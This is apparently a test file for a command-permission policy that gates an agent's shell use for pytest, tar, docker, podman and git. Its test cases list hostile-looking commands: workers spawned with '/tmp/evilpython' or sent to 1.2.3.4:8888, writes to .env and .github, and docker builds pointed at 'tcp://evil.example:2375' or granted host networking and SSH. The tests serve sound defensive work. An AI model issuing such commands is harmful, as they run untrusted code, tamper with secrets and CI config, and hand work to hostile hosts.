// DESIGN.md section 3, for the options of test runners, archivers and container builds that the
// red-team pass found allowed: code from elsewhere given through pytest's ini overrides and
// argument files, files they write, and floors on where docker sends the build and what it grants.
import { describe, expect, it } from 'vitest';
import { decideBashCommand, type Decision } from '../../src/policy/index.js';
import { bashParser, policyFrom } from '../helpers/policy.js';

const POLICY = {
  version: 1,
  default: 'deny',
  tools: {
    bash: { allow: ['python -m pytest *', 'python3 *', 'pytest *', 'tar *', 'docker *', 'podman *', 'git *'], default: 'prompt' },
    write: { deny: ['.github/**', '.env*'] },
    read: { deny: ['.env*'] },
  },
};

async function decide(command: string, policy: object = POLICY): Promise<Decision> {
  return decideBashCommand(await policyFrom(policy), await bashParser(), command);
}

function codes(decision: Decision): string[] {
  return decision.reasonDetails.map((reason) => reason.code);
}

function floorsOf(decision: Decision): string[] {
  return decision.scopes.flatMap((scope) => (scope.kind === 'command' ? (scope.floors ?? []) : []));
}

describe('a tool the tables mark as loading code from its arguments, given a path outside the workspace, needs approval', () => {
  it.each([
    ['python -m pytest -o testpaths=/tmp/tests', '/tmp/tests'],
    ["pytest -o 'testpaths=tests ../outside/tests'", '/outside/tests'],
    ['python3 -m pytest --override-ini=pythonpath=/tmp/lib tests', '/tmp/lib'],
    ['pytest -oconfcutdir=/tmp tests', '/tmp'],
  ])('%s loads code from %s', async (command, path) => {
    const decision = await decide(command);
    expect(decision.decision, command).toBe('prompt');
    expect(
      decision.reasonDetails.some((reason) => reason.code === 'outside-code-path' && reason.message.includes(path)),
      decision.reasons.join('\n'),
    ).toBe(true);
  });

  it('`-o addopts=…` and `@FILE` give more options that Leash does not read', async () => {
    expect(codes(await decide("python -m pytest -o addopts='-p /tmp/x' tests"))).toContain('outside-code-path');
    const args = await decide('python -m pytest @/tmp/args');
    expect(args.decision).toBe('prompt');
    expect(args.reasons.join('\n')).toMatch(/more arguments/);
  });

  it('an ini value not known before it runs needs approval only for a key that names code', async () => {
    expect((await decide('pytest -o "testpaths=$T"')).decision).toBe('prompt');
    expect((await decide('pytest -o "$SETTING"')).decision).toBe('prompt');
    expect((await decide('pytest -o "junit_suite_name=$SUITE" tests')).decision).toBe('allow');
    expect((await decide('python -m pytest -o testpaths=tests -o junit_family=xunit2 -o xfail_strict=true')).decision).toBe('allow');
  });

  it('pytest-xdist workers started with another interpreter, or on another machine, meet the floor `pytest --tx`', async () => {
    for (const command of [
      'pytest --tx popen//python=/tmp/evilpython',
      'python -m pytest -d --tx=ssh=ci@host//chdir=/tmp tests',
      'python3 -X dev -m pytest --tx socket=1.2.3.4:8888',
    ]) {
      const decision = await decide(command);
      expect(decision.decision, command).toBe('prompt');
      expect(floorsOf(decision), command).toContain('pytest --tx');
    }
    expect((await decide('python -m pytest -n 4 --tx 3*popen tests')).decision).toBe('allow');
    expect((await decide('python -m pytest --tx popen//python=/tmp/x', { ...POLICY, floors: { lift: ['pytest --tx'] } })).decision).toBe('allow');
  });
});

describe('path arguments of file writers are write scopes, checked against the write rules', () => {
  it.each([
    ['python -m pytest --debug .github/x.log', '.github/x.log'],
    ['python -m pytest -o cache_dir=.github/cache', '.github/cache'],
    ['pytest --override-ini=log_file=.env tests', '.env'],
    ['python -m pytest --cov=src --cov-report=xml:.env', '.env'],
    ['pytest --cov-report html:.github/cov', '.github/cov'],
    ['tar -cf o.tar --volno-file=.env src', '.env'],
  ])('%s writes %s, which a write deny holds', async (command, written) => {
    const decision = await decide(command);
    expect(decision.decision, command).toBe('deny');
    expect(decision.scopes.some((scope) => scope.kind === 'write' && scope.decision === 'deny' && scope.text.replace(/\/$/, '') === written)).toBe(true);
  });

  it('`--debug` with no file name writes pytestdebug.log where pytest runs; a report to the terminal writes nothing', async () => {
    const bare = await decide('cd .github && python -m pytest --debug -x');
    expect(bare.decision).toBe('deny');
    expect((await decide('python -m pytest --debug -x')).decision).toBe('allow');
    expect((await decide('python -m pytest --cov=src --cov-report term-missing:skip-covered')).decision).toBe('allow');
    expect((await decide('python -m pytest --debug reports/debug.log tests')).decision).toBe('allow');
  });
});

describe('container tools: options that send the work to another daemon, or grant a build more than its sandbox, are floors', () => {
  it.each([
    ['docker -H tcp://evil.example:2375 build .', 'docker -H'],
    ['docker --context prod run alpine', 'docker -H'],
    ['podman --url ssh://u@h/run/podman/podman.sock build .', 'podman --url'],
    ['docker build --allow security.insecure .', 'docker build --allow'],
    ['docker buildx build --network=host .', 'docker build --network host'],
    ['docker build --ssh default .', 'docker build --ssh'],
    ['docker buildx build --push -t x/y .', 'docker build --push'],
    ['docker build -o type=registry .', 'docker build --output registry'],
    ['podman build --network host .', 'docker build --network host'],
  ])('%s meets %s', async (command, floor) => {
    const decision = await decide(command);
    expect(decision.decision, command).toBe('prompt');
    expect(floorsOf(decision)).toContain(floor);
  });

  it('an ordinary build, and a run whose -c is its CPU shares, meet none', async () => {
    // The build context `.` is read in part, which the read deny on `.env*` alone holds back.
    const noReadDeny = { ...POLICY, tools: { ...POLICY.tools, read: {} } };
    for (const command of ['docker build -t app .', 'docker build --network none -o out .', 'docker run -c 512 alpine', 'docker build --pull .']) {
      const decision = await decide(command);
      expect(floorsOf(decision), command).toEqual([]);
      expect((await decide(command, noReadDeny)).decision, command).toBe('allow');
    }
  });
});

describe("global options that point the tool at another repository are floors: another repository's config and hooks run code", () => {
  it('`git --bare` takes the folder it runs in as the repository, so it meets the floor `git --bare`', async () => {
    const decision = await decide('git --bare log -p');
    expect(decision.decision).toBe('prompt');
    expect(floorsOf(decision)).toContain('git --bare');
    expect(floorsOf(await decide('git init --bare mirror.git'))).toEqual([]);
    expect(floorsOf(await decide('git clone --bare https://example.com/x.git'))).toEqual([]);
  });
});
